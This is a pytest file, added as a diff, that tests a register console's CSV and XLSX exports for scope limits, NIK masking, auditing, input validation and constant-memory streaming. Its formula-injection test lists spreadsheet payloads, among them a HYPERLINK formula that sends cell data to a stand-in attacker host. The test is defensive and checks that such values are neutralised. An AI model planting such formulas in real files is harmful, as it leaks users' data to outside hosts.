@@ -1,0 +1,367 @@
+"""CSV and XLSX exports of the console's lists: the rows of the filtered list, in the user's
+scope, NIK masked as on screen, formulas neutralised, audited, streamed in constant memory."""
+import csv
+import datetime
+import io
+import re
+import tracemalloc
+import zipfile
+from xml.etree import ElementTree
+
+import pytest
+
+from tests.conftest import BANDUNG_VILLAGE, BOGOR_VILLAGE
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1", "-2+3", "@SUM(1+1)",
+            "\t=1+1"]
+NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+
+
+# -- reading the files back -------------------------------------------------------------------
+def fetch(client, url: str, **kwargs):
+    """GET and read the whole body, as a browser does: an export streams, and its request
+    stays open until its last byte is read."""
+    response = client.get(url, **kwargs)
+    response.get_data()
+    return response
+
+
+def read_csv(response) -> list[list[str]]:
+    assert response.status_code == 200, response.get_data(as_text=True)[:500]
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    body = response.get_data()
+    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+def read_xlsx(response) -> tuple[list[list], list[list[dict]]]:
+    """(values, cells): each cell a dict of its type, style attributes and value."""
+    assert response.status_code == 200, response.get_data(as_text=True)[:500]
+    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
+        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
+    formats = {int(fmt.get("numFmtId")): fmt.get("formatCode")
+               for fmt in styles.iterfind("x:numFmts/x:numFmt", NS)}
+    xfs = [dict(xf.attrib) for xf in styles.iterfind("x:cellXfs/x:xf", NS)]
+    cells = []
+    for row in sheet.iterfind("x:sheetData/x:row", NS):
+        line = []
+        for c in row.iterfind("x:c", NS):
+            xf = xfs[int(c.get("s", 0))]
+            line.append({
+                "type": c.get("t", "n"),
+                "formula": c.find("x:f", NS) is not None,
+                "quote_prefix": xf.get("quotePrefix") == "1",
+                "format": formats.get(int(xf.get("numFmtId", 0))),
+                "value": "".join(t.text or "" for t in c.iterfind(".//x:t", NS))
+                if c.get("t") == "inlineStr" else c.findtext("x:v", namespaces=NS),
+                "column": re.match(r"[A-Z]+", c.get("r")).group(),
+            })
+        cells.append(line)
+    return [[cell["value"] for cell in line] for line in cells], cells
+
+
+def list_register_ids(client, query: str = "") -> list[str]:
+    html = client.get(f"/households/list/?psize_HouseholdView=100&{query}")
+    assert html.status_code == 200
+    return re.findall(r"<td>\s*(\d{14})\s*</td>", html.get_data(as_text=True))
+
+
+def last_export(app):
+    from models import AuditEntry
+
+    with app.app_context():
+        from app.extensions import db
+
+        entry = db.session.query(AuditEntry).filter_by(action="export") \
+            .order_by(AuditEntry.id.desc()).first()
+        return entry and {"username": entry.username, "entity": entry.entity,
+                          "region_code": entry.region_code, **entry.after}
+
+
+@pytest.fixture()
+def register(make_household):
+    """Five Bandung households (deciles 2, 2, 5, 5, 5) and two in Bogor."""
+    ids = {"bandung": [], "bogor": []}
+    for decile in (2, 2, 5, 5, 5):
+        ids["bandung"].append(make_household(BANDUNG_VILLAGE, welfare_decile=decile))
+    for decile in (5, 7):
+        ids["bogor"].append(make_household(BOGOR_VILLAGE, welfare_decile=decile))
+    return ids
+
+
+def register_ids(app, household_ids) -> set[str]:
+    from app.extensions import db
+    from models import Household
+
+    with app.app_context():
+        return {db.session.get(Household, pk).register_id for pk in household_ids}
+
+
+# -- the rows of the filtered list ----------------------------------------------------------------
+@pytest.mark.parametrize("query", [
+    "",
+    "_flt_0_welfare_decile=5",
+    "_flt_0_region=32.73&_oc_HouseholdView=welfare_decile&_od_HouseholdView=asc",
+    "_flt_0_welfare_decile=5&_oc_HouseholdView=register_id&_od_HouseholdView=desc",
+])
+def test_export_holds_exactly_the_rows_of_the_filtered_list(app, client, login, register, query):
+    login("admin")
+    listed = list_register_ids(client, query)
+    rows = read_csv(fetch(client, f"/households/export/csv?{query}"))
+    assert rows[0][0] == "ID Ruta"
+    assert [row[0] for row in rows[1:]] == listed
+    values, _cells = read_xlsx(fetch(client, f"/households/export/xlsx?{query}"))
+    assert [row[0] for row in values[1:]] == listed
+
+
+def test_export_ignores_paging_and_takes_every_row(client, login, register):
+    login("admin")
+    rows = read_csv(fetch(client, "/households/export/csv?page_HouseholdView=1&psize_HouseholdView=2"))
+    assert len(rows) - 1 == 7
+
+
+def test_list_page_offers_export_buttons_with_its_search(client, login, register):
+    login("operator.bandung")
+    html = client.get("/households/list/?_flt_0_welfare_decile=5&page_HouseholdView=0") \
+        .get_data(as_text=True)
+    assert "Ekspor CSV" in html and "Ekspor XLSX" in html
+    links = re.findall(r'href="(/households/export/(?:csv|xlsx)[^"]*)"', html)
+    assert len(links) == 2
+    for link in links:
+        assert "_flt_0_welfare_decile=5" in link and "page_" not in link
+    # Every register list has them.
+    for url in ("/members/list/", "/families/list/", "/memberships/list/", "/proposals/list/",
+                "/regions/list/", "/programs/list/"):
+        assert "Ekspor CSV" in client.get(url).get_data(as_text=True), url
+
+
+# -- scope and privacy --------------------------------------------------------------------------
+@pytest.mark.parametrize("url", ["/households/export/csv", "/members/export/csv",
+                                 "/families/export/csv", "/memberships/export/csv"])
+def test_regency_operator_exports_only_own_regency(app, client, login, register, url):
+    login("operator.bandung")
+    response = fetch(client, url)
+    assert response.status_code == 200
+    text = response.get_data(as_text=True)
+    for register_id in register_ids(app, register["bogor"]):
+        assert register_id not in text
+    if url.startswith("/households"):
+        assert {row[0] for row in read_csv(response)[1:]} == \
+            register_ids(app, register["bandung"])
+
+
+def test_crafted_filters_cannot_leave_the_scope(app, client, login, register):
+    login("operator.bandung")
+    for query in ("_flt_0_region=32.01", "_flt_0_region=32", "_flt_0_region=",
+                  "_flt_0_inregion=32.01", "_flt_0_village_code=32.01.01.1001"):
+        response = fetch(client, f"/households/export/csv?{query}")
+        # Filters the list does not offer are refused as on the list page.
+        assert response.status_code == client.get(f"/households/list/?{query}").status_code
+        if response.status_code == 400:
+            continue
+        ids = {row[0] for row in read_csv(response)[1:]}
+        assert not ids & register_ids(app, register["bogor"]), query
+    # A foreign region is an empty file, not an error.
+    rows = read_csv(fetch(client, "/households/export/csv?_flt_0_region=32.01"))
+    assert len(rows) == 1 and rows[0][0] == "ID Ruta"
+    values, _ = read_xlsx(fetch(client, "/households/export/xlsx?_flt_0_region=32.01"))
+    assert len(values) == 1
+
+
+def _niks(app, household_ids) -> set[str]:
+    from app.extensions import db
+    from models import Member
+
+    with app.app_context():
+        return {m.nik for m in db.session.query(Member).filter(Member.household_id.in_(household_ids))}
+
+
+def test_province_sees_nik_masked_as_on_screen(app, client, login, register):
+    full = _niks(app, register["bandung"] + register["bogor"])
+    login("prov.jabar")
+    rows = read_csv(fetch(client, "/members/export/csv"))
+    assert rows[0][0] == "NIK"
+    exported = {row[0] for row in rows[1:]}
+    assert exported == {nik[:6] + "********" + nik[-2:] for nik in full}
+    values, _ = read_xlsx(fetch(client, "/members/export/xlsx"))
+    assert {row[0] for row in values[1:]} == exported
+    body = fetch(client, "/members/export/csv").get_data(as_text=True)
+    assert not any(nik in body for nik in full)
+
+
+def test_operator_sees_full_nik_of_own_regency(app, client, login, register):
+    login("operator.bandung")
+    rows = read_csv(fetch(client, "/members/export/csv"))
+    assert {row[0] for row in rows[1:]} == _niks(app, register["bandung"])
+
+
+# -- formula injection ----------------------------------------------------------------------------
+def test_formula_payloads_are_neutralised(app, client, login, make_household):
+    for payload in PAYLOADS:
+        make_household(BANDUNG_VILLAGE, address=payload)
+    login("operator.bandung")
+    rows = read_csv(fetch(client, "/households/export/csv"))
+    address = rows[0].index("Alamat")
+    exported = sorted(row[address] for row in rows[1:])
+    assert exported == sorted("'" + payload for payload in PAYLOADS)
+
+    values, cells = read_xlsx(fetch(client, "/households/export/xlsx"))
+    column = values[0].index("Alamat")
+    written = [line[column] for line in cells[1:]]
+    assert sorted(cell["value"] for cell in written) == sorted(PAYLOADS)
+    for cell in written:
+        assert cell["type"] == "inlineStr" and not cell["formula"]
+        assert cell["quote_prefix"], cell
+
+
+def test_ordinary_text_and_negative_numbers_are_left_alone(client, login, make_household):
+    from app import exports
+
+    make_household(BANDUNG_VILLAGE, address="Jl. Asia-Afrika 8, RT 01-02")
+    login("admin")
+    rows = read_csv(fetch(client, "/households/export/csv"))
+    assert rows[1][rows[0].index("Alamat")] == "Jl. Asia-Afrika 8, RT 01-02"
+    # A number (a latitude south of the equator) stays a number; the same text is neutralised.
+    text = b"".join(exports.csv_chunks(["Lintang"], [[-6.9175], ["-6.9175"]]))
+    assert text.decode("utf-8-sig").splitlines() == ["Lintang", "-6.9175", "'-6.9175"]
+
+
+# -- cells ---------------------------------------------------------------------------------------
+def test_indonesian_headers_labels_and_real_dates(app, client, login, register):
+    login("operator.bandung")
+    rows = read_csv(fetch(client, "/members/export/csv"))
+    assert rows[0][:2] == ["NIK", "Nama Lengkap"] and "Jenis Kelamin" in rows[0]
+    birth = rows[0].index("Tanggal Lahir")
+    assert {row[birth] for row in rows[1:]} == {"1980-05-17", "1983-02-03"}
+    assert "Laki-laki" in {row[rows[0].index("Jenis Kelamin")] for row in rows[1:]}
+
+    values, cells = read_xlsx(fetch(client, "/members/export/xlsx"))
+    dates = [line[birth] for line in cells[1:]]
+    assert all(cell["type"] == "n" and cell["format"] == "yyyy-mm-dd" for cell in dates)
+    day = datetime.date(1899, 12, 30) + datetime.timedelta(days=float(dates[0]["value"]))
+    assert day in {datetime.date(1980, 5, 17), datetime.date(1983, 2, 3)}
+    # NIK stays text in XLSX (16 digits would lose precision as a number).
+    assert all(line[0]["type"] == "inlineStr" for line in cells[1:])
+
+    client.get("/lang/en")
+    assert read_csv(fetch(client, "/households/export/csv"))[0][0] == "Register ID"
+    client.get("/lang/id")
+
+
+def test_file_name_and_headers(client, login, register):
+    login("admin")
+    response = fetch(client, "/households/export/xlsx")
+    disposition = response.headers["Content-Disposition"]
+    assert re.fullmatch(r'attachment; filename="rumah-tangga-\d{8}-\d{4}\.xlsx"', disposition)
+    assert response.headers["Cache-Control"] == "no-store, private"
+    assert response.get_data()[:2] == b"PK"
+
+
+# -- audit, permissions, bad input ------------------------------------------------------------------
+def test_every_export_is_audited(app, client, login, register):
+    login("operator.bandung")
+    fetch(client, "/households/export/xlsx?_flt_0_welfare_decile=5").get_data()
+    entry = last_export(app)
+    assert entry == {
+        "username": "operator.bandung", "entity": "household", "region_code": "32.73",
+        "list": "HouseholdView", "format": "xlsx",
+        "filters": {"_flt_0_welfare_decile": ["5"]}, "rows": 3,
+    }
+    client.get("/logout/")
+    login("pengawas")
+    fetch(client, "/members/export/csv").get_data()
+    entry = last_export(app)
+    assert (entry["username"], entry["entity"], entry["region_code"], entry["rows"]) == \
+        ("pengawas", "member", None, 14)
+    rows = read_csv(fetch(client, "/audit/export/csv?_flt_0_username=operator.bandung"))
+    assert rows[0][:2] == ["Waktu", "Pengguna"]
+    assert [row[1] for row in rows[1:]].count("operator.bandung") >= 2  # sign-in, export
+
+
+def test_roles_without_export_permission_are_refused(client, login, register):
+    assert fetch(client, "/households/export/csv").status_code == 302  # not signed in: login
+    login("verifikator.bandung")
+    html = client.get("/households/list/").get_data(as_text=True)
+    assert "Ekspor CSV" not in html
+    assert fetch(client, "/households/export/csv").status_code == 403
+    assert fetch(client, "/members/export/xlsx").status_code == 403
+    client.get("/logout/")
+    login("prov.jabar")
+    assert fetch(client, "/audit/export/csv").status_code == 403  # reads no audit trail
+    assert fetch(client, "/households/export/csv").status_code == 200
+
+
+@pytest.mark.parametrize("query", [
+    "_oc_HouseholdView=nonexistent&_od_HouseholdView=asc",
+    "_flt_9_region=32",
+    "page_HouseholdView=abc",
+    "psize_HouseholdView=-5",
+])
+def test_malformed_arguments_are_refused_like_the_list(client, login, register, query):
+    login("admin")
+    assert client.get(f"/households/list/?{query}").status_code == 400
+    assert fetch(client, f"/households/export/csv?{query}").status_code == 400
+    assert fetch(client, f"/households/export/xlsx?{query}").status_code == 400
+
+
+@pytest.mark.parametrize("url", [
+    "/households/export/pdf",
+    "/households/export/csv?_flt_0_status=BOGUS",
+    "/households/export/csv?_flt_0_welfare_decile=abc",
+    "/audit/export/csv?_flt_0_date=not-a-date",
+])
+def test_other_bad_input_is_never_a_server_error(client, login, url):
+    login("admin")
+    assert fetch(client, url).status_code < 500
+
+
+def test_row_limit_gives_a_clear_message(app, client, login, register):
+    login("admin")
+    app.config["EXPORT_MAX_ROWS"] = 3
+    try:
+        response = fetch(client, "/households/export/csv?_flt_0_welfare_decile=5",
+                              follow_redirects=True)
+    finally:
+        app.config.pop("EXPORT_MAX_ROWS")
+    html = response.get_data(as_text=True)
+    assert response.status_code == 200
+    assert "paling banyak 3" in html and "Persempit pencarian" in html
+    assert last_export(app) is None or last_export(app)["rows"] != 4
+
+
+# -- constant memory -------------------------------------------------------------------------------
+def _measure(client, fmt: str) -> tuple[int, int]:
+    """(bytes sent, peak Python memory while the export was built and sent)."""
+    tracemalloc.start()
+    response = client.get(f"/members/export/{fmt}")
+    assert response.is_streamed
+    size = sum(len(chunk) for chunk in response.response)
+    response.close()
+    _current, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    return size, peak
+
+
+def test_export_streams_in_constant_memory(app, client, login):
+    """Five times the rows, five times the file, the same memory: rows are read and written a
+    batch at a time, never collected."""
+    from app import demo
+
+    login("admin")
+    with app.app_context():
+        small = demo.generate(1000, seed=11).members
+    measured = {}
+    for fmt in ("csv", "xlsx"):
+        _measure(client, fmt)  # warm caches (permissions, compiled statements, catalogs)
+        measured[fmt] = [_measure(client, fmt)]
+    with app.app_context():
+        large = small + demo.generate(4500, seed=12).members
+    assert large >= 20_000
+    for fmt in ("csv", "xlsx"):
+        measured[fmt].append(_measure(client, fmt))
+        (small_size, small_peak), (large_size, large_peak) = measured[fmt]
+        print(f"{fmt}: {small} rows {small_size} B peak {small_peak} B; "
+              f"{large} rows {large_size} B peak {large_peak} B")
+        assert large_size > 4 * small_size
+        assert large_peak < 1.5 * small_peak, measured
